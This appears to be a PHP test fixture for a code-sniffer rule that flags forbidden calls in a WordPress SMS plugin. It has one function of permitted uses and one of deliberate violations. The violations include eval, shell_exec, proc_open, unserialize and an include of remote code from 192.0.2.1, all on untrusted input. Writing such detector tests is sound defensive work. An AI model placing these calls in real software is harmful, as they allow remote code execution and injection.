<?php
namespace IhuyiSms;

function ok() {
	require_once __DIR__ . '/a.php';
	require Plugin::path( 'ihuyi/autoload.php' );
	require_once ABSPATH . 'wp-admin/includes/upgrade.php';
	$out = fopen( 'php://output', 'w' );
	$in = file_get_contents( 'php://input', false, null, 0, 65537 );
	$url = 'https://www.ihuyi.com/';
	// phpcs:ignore IhuyiSms.Forbidden -- our own site, to see whether the address answers.
	wp_remote_get( $url );
}

function slips( $a ) {
	eval( $a ); // slip
	extract( $a ); // slip
	require $a; // slip
	include 'http://192.0.2.1/a.php'; // slip
	shell_exec( $a ); // slip
	$b = `ls`; // slip
	proc_open( $a, array(), $pipes ); // slip
	curl_init( $a ); // slip
	file_get_contents( $a ); // slip
	file_get_contents( 'php://input' ); // slip
	wp_remote_post( $a ); // slip
	$c = 'https://example.com/count'; // slip
	$d = "http://stats.example.com/$a"; // slip
	unserialize( $a ); // slip
	$e = mt_rand( 0, 9 ); // slip
	@unlink( $a ); // slip
	$f = $$a; // slip
	mail( $a, $a, $a ); // slip
	base64_decode( $a ); // slip
}
